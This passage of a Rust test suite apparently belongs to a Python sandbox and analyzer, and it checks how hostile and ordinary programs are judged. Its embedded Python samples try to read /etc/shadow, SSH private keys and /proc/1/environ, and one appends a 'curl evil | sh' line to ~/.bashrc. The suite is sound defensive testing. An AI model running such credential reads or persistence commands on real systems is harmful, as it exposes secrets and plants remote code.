    let ordinary = r#"
import asyncio, atexit, collections, dataclasses, doctest, enum, sys, traceback, types, typing

@dataclasses.dataclass(frozen=True)
class Point:
    x: int = 0
    y: int = 0

Pair = collections.namedtuple("Pair", "a b")
Colour = enum.Enum("Colour", "RED GREEN")

def double(n: int) -> int:
    """
    >>> double(2)
    4
    """
    return 2 * n

async def main():
    await asyncio.sleep(0)

class Verbose(types.ModuleType):
    def __repr__(self):
        return f"<verbose module {self.__name__}>"

sys.modules[__name__].__class__ = Verbose

class Connection:  # a state machine changes state by changing its class
    def open(self):
        self.__class__ = Opened

class Opened(Connection):
    def close(self):
        self.__class__ = Connection

link = Connection()
link.open()
link.close()

def bump():  # the Python Cookbook's lesson on exec and local variables
    x = 0
    exec("x += 1")
    return x

bump()
atexit.register(lambda: 1 / 0)  # its traceback is printed after every frame is gone
try:
    int("x")
except ValueError:
    traceback.print_exc()
asyncio.run(main())
print(Point(1, 2), Pair(1, 2), Colour.RED, typing.get_type_hints(double))
print(doctest.testmod())
with open("results.txt", "w") as out, open("/tmp/scratch.txt", "w") as scratch:
    out.write("written where the program runs")
    scratch.write("and in /tmp")
"#;
    let (report, out) = report_of(ordinary, "20s");
    out.assert_code(0);
    assert_eq!(report["verdict"], "clean", "{:#}", report["reasons"]);
    let events = report["runtime"]["telemetry"]["events"].as_array().unwrap();
    assert!(
        events.iter().any(|e| e["via"] == "library"),
        "no event was attributed to the standard library"
    );

    for own in [
        // Code from outside that does something the analyzer flags: only a run whose every
        // text compiled there is clean answers the line (`print(1)` would).
        "import os\nexec(os.environ.get('CODE', \"print(__import__('os').getcwd())\"))\n",
        // A module the program wrote is the program's code, also while it is imported.
        "import sys\nopen('/tmp/m.py', 'w').write('exec(\"print(\" + \"1)\")\\n')\n\
         sys.path.insert(0, '/tmp')\nimport m\n",
        "try:\n    open('/usr/lib/evil.py', 'w')\nexcept OSError as e:\n    print(e)\n",
    ] {
        let (report, _) = report_of(own, "20s");
        let reasons = report["reasons"].to_string();
        assert!(
            reasons.contains("audit event"),
            "the program's own act raised no runtime reason: {reasons}\n{own}"
        );
    }
}

/// Closing every open file at exit walks the heap but touches only files: the static finding
/// at that line accounts for the event. The same walk that keeps functions reaches their
/// globals and counts, even when the harmless walk runs first.
#[test]
fn a_heap_walk_kept_to_open_files_is_accounted_for() {
    let closes_files = r#"
import atexit, gc, io

def close_open_files():
    everything = gc.get_objects()
    for obj in everything:
        if isinstance(obj, io.IOBase):
            obj.close()

atexit.register(close_open_files)
with open("notes.txt", "w") as notes:
    notes.write("kept open until exit")
print("done")
"#;
    let (report, out) = report_of(closes_files, "20s");
    out.assert_code(0);
    assert_eq!(report["verdict"], "clean", "{:#}", report["reasons"]);
    assert_eq!(report["runtime"]["accounted_for"][0]["rule_id"], "PJ435");

    let reaches_globals = format!(
        "{closes_files}
import types
for f in gc.get_objects():
    if isinstance(f, types.FunctionType):
        f.__globals__
"
    );
    let (report, _) = report_of(&reaches_globals, "20s");
    assert_eq!(report["verdict"], "suspicious");
    let reasons = report["reasons"].to_string();
    assert!(
        reasons.contains("audit event") && reasons.contains("tamper"),
        "the unbounded walk raised no runtime reason: {reasons}"
    );
}

/// Host secrets, other processes' interfaces and start-up files mostly do not exist inside
/// the jail, so reaching for them fails; the attempt still makes the program suspicious, and
/// the report names each path.
#[test]
fn attempts_at_host_paths_are_reported_even_when_they_fail() {
    let program = "import os\n\
        for path in ('/etc/shadow', '/proc/1/environ', os.path.expanduser('~/.ssh/id_rsa')):\n\
        \x20   try:\n\
        \x20       open(path).read()\n\
        \x20   except OSError as e:\n\
        \x20       print(path, e.strerror)\n\
        try:\n\
        \x20   open(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh\\n')\n\
        except OSError as e:\n\
        \x20   print(e)\n";
    let (report, out) = report_of(program, "20s");
    out.assert_code(0);
    assert_eq!(report["verdict"], "suspicious", "{:#}", report["reasons"]);
    let reasons = report["reasons"].to_string();
    for (path, class) in [
        ("/etc/shadow", "a host secret"),
        ("/proc/1/environ", "other process"),
        ("/work/.ssh/id_rsa", "a host secret"),
        ("/work/.bashrc", "runs code later"),
    ] {
        assert!(
            reasons.contains(path) && reasons.contains(class),
            "{path} ({class}) is not among the reasons: {reasons}"
        );
    }
}

/// Runs `program` with `paths` on its stdin (so that the analyzer sees no path and the
/// verdict rests on what the program did) and returns the report's verdict and reasons.
fn report_reading(program: &str, paths: &[String]) -> Value {
    let (report, out) = report_with(
        Jail::code(program).stdin_data(paths.join("\n").as_bytes()),
        &["--timeout", "60s"],
    );
    out.assert_code(0);
    assert_eq!(
        report["static"]["findings_total"], 0,
        "{:#}",
        report["static"]
    );
    report
}

fn assert_attempts_named(report: &Value, attempts: &[(&str, &str)]) {
    assert_eq!(report["verdict"], "suspicious", "{:#}", report["reasons"]);
    let reasons = report["reasons"].to_string();
    for (path, class) in attempts {
        assert!(
            reasons.contains(&format!("tried to reach {path} (line ")) && reasons.contains(class),
            "{path} ({class}) is not among the reasons: {reasons}"
        );
    }
}

const READS_EACH_LINE: &str = "import sys\n\
    for path in sys.stdin.read().split():\n\
    \x20   try:\n\
    \x20       open(path).read()\n\
    \x20   except OSError:\n\
    \x20       pass\n";

/// Importing pathlib opens more files than the prelude samples of `open`; reading a host
/// secret through pathlib afterwards is still named.
#[test]
fn a_host_secret_read_through_pathlib_is_named() {
    let program = "import pathlib, sys\n\
        for name in sys.stdin.read().split():\n\
        \x20   try:\n\
        \x20       pathlib.Path(name).read_text()\n\
        \x20   except OSError:\n\
        \x20       pass\n";
    let report = report_reading(program, &["/etc/shadow".into()]);
    assert_attempts_named(&report, &[("/etc/shadow", "a host secret")]);
    let telemetry = &report["runtime"]["telemetry"];
    assert!(
        telemetry["counts"]["open"].as_u64().unwrap() > 16,
        "{telemetry:#}"
    );
    assert_eq!(telemetry["complete"], true, "{:#}", telemetry["tamper"]);
}

/// The program's own files use up the sample budget of `open`; the attempts after them are
/// named all the same, with their line.
#[test]
fn attempts_after_many_ordinary_opens_are_named() {
    let mut paths: Vec<String> = (0..20).map(|_| "/work/main.py".to_string()).collect();
    paths.extend(["/etc/shadow", "/proc/1/environ", "/root/.ssh/id_rsa"].map(String::from));
    let program = format!(
        "import os\n\
         for i in range(20):\n\
         \x20   with open('own-%d.txt' % i, 'w') as f:\n\
         \x20       f.write(str(i))\n\
         for i in range(20):\n\
         \x20   open(os.path.join('/work', 'own-%d.txt' % i)).read()\n\
         {READS_EACH_LINE}"
    );
    let report = report_reading(&program, &paths);
    assert_attempts_named(
        &report,
        &[
            ("/etc/shadow", "a host secret"),
            ("/proc/1/environ", "other process"),
            ("/root/.ssh/id_rsa", "a host secret"),
        ],
    );
    let telemetry = &report["runtime"]["telemetry"];
    assert!(telemetry["counts"]["open"].as_u64().unwrap() > 60);
    assert_eq!(telemetry["complete"], true, "{:#}", telemetry["tamper"]);
}

/// A program that reads many of its own files, the standard library's sources and what the
/// jail provides stays clean: none of it is unusual, and nothing uses up a budget.
#[test]
fn an_ordinary_program_reading_many_files_stays_clean() {
    let program = "import csv, inspect, json, os, pathlib, sysconfig, zipfile\n\
        os.makedirs('data', exist_ok=True)\n\
        for i in range(100):\n\
        \x20   with open(os.path.join('data', 'part-%03d.csv' % i), 'w', newline='') as f:\n\
        \x20       csv.writer(f).writerows([[i, i * i], [i + 1, (i + 1) ** 2]])\n\
        total = 0\n\
        for _ in range(3):\n\
        \x20   for name in sorted(os.listdir('data')):\n\
        \x20       with open(os.path.join('data', name), newline='') as f:\n\
        \x20           total += sum(int(row[1]) for row in csv.reader(f))\n\
        \x20   for path in pathlib.Path('/work/data').glob('*.csv'):\n\
        \x20       total += len(path.read_text())\n\
        \x20   for path in pathlib.Path('.').iterdir():\n\
        \x20       total += path.is_dir()\n\
        for root, dirs, files in os.walk('.'):\n\
        \x20   total += len(files)\n\
        for module in (json, csv, zipfile, inspect):\n\
        \x20   total += len(inspect.getsource(module))\n\
        \x20   with open(module.__file__) as f:\n\
        \x20       total += len(f.read())\n\
        total += len(os.listdir(sysconfig.get_paths()['stdlib']))\n\
        with open('/dev/urandom', 'rb') as f:\n\
        \x20   total += len(f.read(8))\n\
        print(total > 0)\n";
    let (report, out) = report_of(program, "60s");
    out.assert_code(0);
    assert_eq!(report["verdict"], "clean", "{:#}", report["reasons"]);
    let telemetry = &report["runtime"]["telemetry"];
    assert!(telemetry["counts"]["open"].as_u64().unwrap() > 500);
    let unusual: Vec<&Value> = telemetry["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["unusual"] == true)
        .collect();
    assert!(unusual.is_empty(), "{unusual:#?}");
    assert_eq!(telemetry["end"]["unusual_unrecorded"], 0);
}

/// A thousand opens of harmless unusual paths use up their budget of records before the
/// attempt: the report cannot name it, but it says the telemetry is incomplete, so the run
/// is not clean.
#[test]
fn a_flood_of_unusual_paths_before_an_attempt_is_not_clean() {
    let mut paths: Vec<String> = (0..1000).map(|i| format!("/nonexistent/{i}")).collect();
    paths.push("/etc/shadow".into());
    let report = report_reading(READS_EACH_LINE, &paths);
    assert_eq!(report["verdict"], "suspicious", "{:#}", report["reasons"]);
    assert!(
        report["reasons"]
            .to_string()
            .contains("telemetry may be incomplete"),
        "{:#}",
        report["reasons"]
    );
    assert_eq!(tamper_kinds(&report), ["unusual-past-budget"]);
    let telemetry = &report["runtime"]["telemetry"];
    assert_eq!(telemetry["complete"], false);
    assert!(telemetry["end"]["unusual_unrecorded"].as_u64().unwrap() >= 1001 - 64);
}

/// With `--out`, the report lists the files that came back (path, size, sha256) and those
/// left in the jail; without it, `files` is null.
#[test]
fn the_report_lists_the_collected_files() {
    let host = HostDir::new();
    let out_dir = host.join("out");
    let program = "import os\n\
        open('result.csv', 'w').write('a,b\\n1,2\\n')\n\
        os.symlink('/etc/shadow', 'shadow')\n";
    let (report, out) = report_with(Jail::code(program), &["--out", out_dir.to_str().unwrap()]);
    out.assert_code(0);
    let files = &report["files"];
    let collected = files["files"].as_array().expect("collected files");
    assert_eq!(collected.len(), 1, "{files:#}");
    assert_eq!(collected[0]["path"], "result.csv");
    assert_eq!(collected[0]["size"], 8);
    let digest = Command::new("sha256sum")
        .arg(out_dir.join("result.csv"))
        .output()
        .unwrap();
    let digest = String::from_utf8_lossy(&digest.stdout);
    assert_eq!(
        collected[0]["sha256"].as_str(),
        digest.split_whitespace().next(),
        "{files:#}"
    );
    assert!(
        files["skipped"].to_string().contains("shadow"),
        "the link left behind is not listed: {files:#}"
    );
    let (report, _) = report_of("print(1)", "10s");
    assert!(report["files"].is_null(), "{:#}", report["files"]);
}

#[test]
fn writes_outside_are_recorded_by_the_kernel() {
    common::scenarios::writes_outside_are_recorded_by_the_kernel(common::Who::Runner);
}

#[test]
fn program_starts_without_events_are_recorded_by_the_kernel() {
    common::scenarios::program_starts_without_events_are_recorded_by_the_kernel(
        common::Who::Runner,
    );
}

#[test]
fn ordinary_writes_and_subprocesses_stay_clean() {
    common::scenarios::ordinary_writes_and_subprocesses_stay_clean(common::Who::Runner);
}

/// Runs `run` again once when its only reasons are what a process killed in the middle of
/// writing its telemetry leaves: a record numbered but never written. `multiprocessing`
/// kills its workers at a pool's end (`Pool.__exit__` terminates them). The gap stays a
/// reason (fail closed: telemetry cannot say who was killed), so the verdict is
/// `suspicious`; a second run shows whether the code is. (A seccomp notification such a
/// kill withdraws is accounted for by the kernel record of the signal: no retry.)
fn report_retried_once_if_killed_mid_call(
    run: impl Fn() -> (Value, common::Outcome),
) -> (Value, common::Outcome) {
    let (report, out) = run();
    let killed_mid_call = |reason: &Value| {
        let reason = reason.as_str().unwrap_or_default();
        reason.starts_with("telemetry may be incomplete")
            && tamper_kinds(&report).iter().all(|k| k == "seq-gap")
    };
    let reasons = report["reasons"].as_array().cloned().unwrap_or_default();
    if report["verdict"] == "suspicious" && reasons.iter().all(killed_mid_call) {
        return run();
    }
    (report, out)
}

/// Parallel code as the multiprocessing documentation writes it: pools over
/// fork, spawn and forkserver, shared values, a manager, a process pool, and
/// the program's own objects through pickle. The workers are the program's,
/// the interpreters the standard library starts are its own (word for word):
/// clean, as root and as an ordinary user.
#[test]
fn parallel_programs_are_clean() {
    let program = r#"
import concurrent.futures, dataclasses, multiprocessing as mp, pickle

@dataclasses.dataclass
class Point:
    x: int
    y: int

def square(n):
    return n * n

def add_one(value, lock):
    with lock:
        value.value += 1

if __name__ == "__main__":
    for method in ("fork", "spawn", "forkserver"):
        with mp.get_context(method).Pool(2) as pool:
            print(method, pool.map(square, range(4)))
    counter, lock = mp.Value("i", 0), mp.Lock()
    workers = [mp.Process(target=add_one, args=(counter, lock)) for _ in range(3)]
    for w in workers:
        w.start()
    for w in workers:
        w.join()
    print("counter", counter.value, list(mp.Array("d", 3)))
    with mp.Manager() as manager:
        shared = manager.dict(a=1)
        print("manager", dict(shared))
    with concurrent.futures.ProcessPoolExecutor(2) as executor:
        print("executor", list(executor.map(square, [5, 6])))
    print(pickle.loads(pickle.dumps([Point(1, 2)])))
"#;
    for who in [Who::Runner, Who::TestUser] {
        let (report, out) = report_retried_once_if_killed_mid_call(|| {
            report_with(Jail::code(program).who(who), &["--timeout", "60s"])
        });
        out.assert_code(0);
        assert!(out.stdout.contains("counter 3 [0.0, 0.0, 0.0]"), "{out}");
        assert_eq!(
            report["verdict"], "clean",
            "{who:?}: {:#}",
            report["reasons"]
        );
        let execs = report["kernel"]["watched"]["execs"].as_array().unwrap();
        assert!(
            execs.iter().any(|e| e["helper"]
                .as_str()
                .is_some_and(|a| a.contains("forkserver"))),
            "{execs:#?}"
        );
    }
}

/// The resource tracker's own command line, started by the program with the
/// dynamic loader told to preload a library: the loader runs that library's
/// code in it before any of the standard library's, so it is not accounted
/// for. The same start without it is the standard library's helper.
#[test]
fn a_helper_interpreter_told_to_preload_a_library_is_not_accounted_for() {
    let start = |preload: bool| {
        format!(
            r#"
import os, subprocess, sys
from multiprocessing import util
if {preload}:
    os.environ["LD_PRELOAD"] = "/tmp/absent.so"
code = "from multiprocessing.resource_tracker import main;main(99)"
argv = [sys.executable] + subprocess._args_from_interpreter_flags() + ["-c", code]
pid = util.spawnv_passfds(os.fsencode(sys.executable), argv, [])
os.waitpid(pid, 0)
"#,
            preload = if preload { "True" } else { "False" }
        )
    };
    for preload in [false, true] {
        let (report, _) = report_of(&start(preload), "30s");
        let tracker: Vec<&Value> = report["kernel"]["watched"]["execs"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|e| e["argv"].to_string().contains("resource_tracker"))
            .collect();
        assert_eq!(tracker.len(), 1, "{report:#}");
        assert_eq!(tracker[0]["helper"].is_null(), preload, "{:#}", tracker[0]);
    }
}

/// Held-out programs (`tests/parallel_and_pickle`, written without sight of the rules or the
/// report): every attack hiding behind multiprocessing, pickle or a script file is not clean;
/// ordinary multiprocessing and pickle code is, but for those listed here with what the
/// analyzer cannot tell apart yet; ordinary code that starts other programs is suspicious, as
/// `docs/report.md` says a program start is.
#[test]
fn process_and_pickle_programs_get_the_verdicts_their_files_expect() {
    const NOT_YET: &[(&str, &str)] = &[
        (
            "23_shelve_tempdir.py",
            "a shelf the program wrote: unpickled on every read",
        ),
        (
            "25_pickle_disk_cache.py",
            "a pickle read back from a file the program wrote",
        ),
        (
            "30_getnewargs_immutable.py",
            "protocol 2 rebuilds keyword arguments with builtins.getattr",
        ),
        (
            "31_marshal_plain_data.py",
            "marshal of the program's own data",
        ),
    ];
    #[derive(serde::Deserialize)]
    struct Entry {
        path: String,
        family: String,
    }
    let dir = Path::new(CHECKOUT).join("tests/parallel_and_pickle");
    let read = |part: &str| -> Vec<Entry> {
        let text = std::fs::read_to_string(dir.join(part).join("manifest.yaml")).unwrap();
        serde_yaml::from_str(&text).unwrap()
    };
    let mut cases: Vec<(std::path::PathBuf, &'static str)> = Vec::new();
    for entry in read("ordinary") {
        let expected = match entry.family.as_str() {
            "script" => "suspicious",
            _ if NOT_YET.iter().any(|(file, _)| *file == entry.path) => "suspicious",
            _ => "clean",
        };
        cases.push((dir.join("ordinary").join(&entry.path), expected));
    }
    let escapes = read("escapes");
    assert_eq!(escapes.len(), 42);
    for entry in escapes {
        cases.push((dir.join("escapes").join(&entry.path), "not clean"));
    }
    assert_eq!(cases.len(), 85);
    let wrong = wrong_verdicts(&cases);
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Runs each program (two at a time: each run is a jail of its own) and says which did
/// not get its expected verdict (`not clean`, or a verdict by name).
fn wrong_verdicts(cases: &[(std::path::PathBuf, &str)]) -> Vec<String> {
    let next = std::sync::atomic::AtomicUsize::new(0);
    let wrong = std::sync::Mutex::new(Vec::new());
    std::thread::scope(|scope| {
        for _ in 0..2 {
            scope.spawn(|| loop {
                let i = next.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                let Some((file, expected)) = cases.get(i) else {
                    break;
                };
                let (report, _) = report_retried_once_if_killed_mid_call(|| {
                    report_with(Jail::file(file), &["--timeout", "30s"])
                });
                let verdict = report["verdict"].as_str().unwrap_or("?").to_string();
                let right = match *expected {
                    "not clean" => verdict != "clean",
                    expected => verdict == expected,
                };
                if !right {
                    wrong.lock().unwrap().push(format!(
                        "{}: expected {expected}, got {verdict}: {}",
                        file.display(),
                        report["reasons"]
                    ));
                }
            });
        }
    });
    wrong.into_inner().unwrap()
}

/// Held-out programs that abuse the exemptions the documentation states
/// (`tests/exemptions`, written from `docs/report.md`, `docs/severity.md` and the README
/// alone): each reaches something an attacker wants, and none may be called clean, but
/// for the one the documentation leaves unreported.
#[test]
fn programs_that_abuse_a_documented_exemption_are_not_clean() {
    const UNREPORTED: &[&str] = &["x01_pwd_getpwall.py"];
    #[derive(serde::Deserialize)]
    struct Manifest {
        samples: Vec<Entry>,
    }
    #[derive(serde::Deserialize)]
    struct Entry {
        path: String,
    }
    let dir = Path::new(CHECKOUT).join("tests/exemptions");
    let text = std::fs::read_to_string(dir.join("manifest.yaml")).unwrap();
    let manifest: Manifest = serde_yaml::from_str(&text).unwrap();
    assert_eq!(manifest.samples.len(), 40);
    let cases: Vec<(std::path::PathBuf, &str)> = manifest
        .samples
        .iter()
        .map(|entry| {
            let expected = match UNREPORTED.contains(&entry.path.as_str()) {
                true => "clean",
                false => "not clean",
            };
            (dir.join(&entry.path), expected)
        })
        .collect();
    let wrong = wrong_verdicts(&cases);
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// `files` (path, text) under a new host directory.
fn project(files: &[(&str, &str)]) -> HostDir {
    let dir = HostDir::new();
    for (path, text) in files {
        let path = dir.path.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    dir
}

/// The report of `pyjail run [before...] --report FILE [after...]`, validated.
fn report_of_run(before: &[&OsStr], after: &[&OsStr]) -> (Value, common::Outcome) {
    let dir = HostDir::new();
    let path = dir.join("report.json");
    let out = Jail::bare()
        .opts(before)
        .opts([
            "--timeout".as_ref(),
            "60s".as_ref(),
            "--report".as_ref(),
            path.as_os_str(),
        ])
        .opts(after)
        .run();
    out.assert_bounded();
    out.assert_no_panic();
    validate(&path);
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("no report: {e}\n{out}"));
    (serde_json::from_str(&text).expect("report is JSON"), out)
}

/// The findings of a report's static section: (file, rule, severity).
fn static_findings(report: &Value) -> Vec<(String, String, String)> {
    report["static"]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let field = |k: &str| f[k].as_str().unwrap_or_default().to_string();
            (field("file"), field("rule_id"), field("severity"))
        })
        .collect()
}

const READS_SHADOW: &str = "import sys\n\
    def collect():\n\
    \x20   return open('/etc/shadow').read()\n\
    if len(sys.argv) > 5:\n\
    \x20   collect()\n";

/// Hostile code moved from `__main__.py` into a sibling module it imports
/// (run only when asked, so that only the code shows it): the report's
/// static section lints the project's other Python files too, and the
/// sibling's finding names its file. So does `--work` with a program beside it.
#[test]
fn a_hostile_sibling_module_is_in_the_report_of_a_project() {
    let dir = project(&[
        ("__main__.py", "import helper\nprint('main ran')\n"),
        ("helper.py", READS_SHADOW),
        ("notes.txt", "not Python\n"),
    ]);
    let (report, out) = report_of_run(&[], &[dir.path.as_os_str()]);
    out.assert_code(0);
    assert!(out.stdout.contains("main ran"), "{out}");
    let found = static_findings(&report);
    assert!(
        found
            .iter()
            .any(|(file, _, severity)| file == "helper.py" && severity == "high"),
        "{found:?}"
    );
    assert!(
        found.iter().all(|(file, _, _)| file == "helper.py"),
        "{found:?}"
    );
    let modules = &report["static"]["modules"];
    assert_eq!(modules["linted"][0]["path"], "helper.py", "{modules:#}");
    assert_eq!(
        modules["linted"].as_array().unwrap().len(),
        1,
        "{modules:#}"
    );
    assert_eq!(modules["not_linted_total"], 0);
    assert_eq!(report["static"]["max_severity"], "high");
    assert_eq!(report["verdict"], "suspicious", "{:#}", report["reasons"]);

    let program = HostDir::new();
    let main = program.join("main.py");
    std::fs::write(&main, "import helper\nprint('main ran')\n").unwrap();
    let work = project(&[("lib/helper.py", READS_SHADOW)]);
    let (report, out) = report_of_run(
        &["--work".as_ref(), work.path.as_os_str()],
        &[main.as_os_str()],
    );
    let found = static_findings(&report);
    assert!(
        found
            .iter()
            .any(|(file, _, severity)| file == "lib/helper.py" && severity == "high"),
        "{found:?}\n{out}"
    );
    assert_eq!(report["verdict"], "suspicious", "{:#}", report["reasons"]);
}

/// The human report names a module's finding by its file and says which
/// modules were linted.
#[test]
fn the_human_report_names_the_modules_file() {
    let dir = project(&[
        ("__main__.py", "import helper\n"),
        ("helper.py", READS_SHADOW),
    ]);
    let out = Jail::bare()
        .opts([
            "--timeout".as_ref(),
            "60s".as_ref(),
            "--report".as_ref(),
            "-".as_ref(),
            "--report-format".as_ref(),
            "human".as_ref(),
            dir.path.as_os_str(),
        ])
        .run();
    out.assert_code(0);
    assert!(out.stderr.contains("helper.py line 3: PJ"), "{out}");
    assert!(
        out.stderr
            .contains("linted with 1 other Python file(s) in /work: helper.py"),
        "{out}"
    );
}

/// A project of ordinary modules and packages stays clean: every module
/// linted, nothing found.
#[test]
fn a_project_of_ordinary_modules_stays_clean() {
    let dir = project(&[
        (
            "__main__.py",
            "from shapes import area\nfrom report import fmt\nprint(fmt.show(area(2, 3)))\n",
        ),
        ("shapes.py", "def area(w, h):\n    return w * h\n"),
        ("report/__init__.py", ""),
        (
            "report/fmt.py",
            "import json\n\n\ndef show(value):\n    return json.dumps({'area': value})\n",
        ),
        (
            "tests/test_shapes.py",
            "from shapes import area\n\n\ndef test_area():\n    assert area(2, 3) == 6\n",
        ),
    ]);
    let (report, out) = report_of_run(&[], &[dir.path.as_os_str()]);
    out.assert_code(0);
    assert!(out.stdout.contains("{\"area\": 6}"), "{out}");
    assert_eq!(
        report["static"]["findings_total"], 0,
        "{:#}",
        report["static"]
    );
    let linted: Vec<&str> = report["static"]["modules"]["linted"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["path"].as_str().unwrap())
        .collect();
    assert_eq!(
        linted,
        [
            "shapes.py",
            "report/__init__.py",
            "report/fmt.py",
            "tests/test_shapes.py"
        ]
    );
    assert_eq!(report["verdict"], "clean", "{:#}", report["reasons"]);
}

/// Past the report's bound (1,000 modules), the files left unlinted are
/// listed and the static section says the code could not be linted
/// completely: no silent cut, and no clean verdict on a partial lint.
#[test]
fn modules_past_the_bound_are_said_and_not_taken_for_clean() {
    let mut files: Vec<(String, String)> = (0..1000)
        .map(|i| (format!("m{i:04}.py"), "X = 1\n".to_string()))
        .collect();
    files.push(("zz/helper.py".into(), READS_SHADOW.into()));
    files.push(("__main__.py".into(), "print('main ran')\n".into()));
    let files: Vec<(&str, &str)> = files
        .iter()
        .map(|(p, t)| (p.as_str(), t.as_str()))
        .collect();
    let dir = project(&files);
    let (report, out) = report_of_run(&[], &[dir.path.as_os_str()]);
    out.assert_code(0);
    let modules = &report["static"]["modules"];
    assert_eq!(modules["linted"].as_array().unwrap().len(), 1000);
    assert_eq!(modules["max_files"], 1000);
    assert_eq!(modules["not_linted_total"], 1);
    assert_eq!(modules["not_linted"][0]["path"], "zz/helper.py");
    assert_eq!(modules["not_linted"][0]["why"], "past the first 1000 files");
    let error = &report["static"]["parse_error"];
    assert_eq!(error["kind"], "not-linted", "{:#}", report["static"]);
    assert_eq!(error["file"], "zz/helper.py");
    assert_eq!(report["verdict"], "suspicious", "{:#}", report["reasons"]);
}
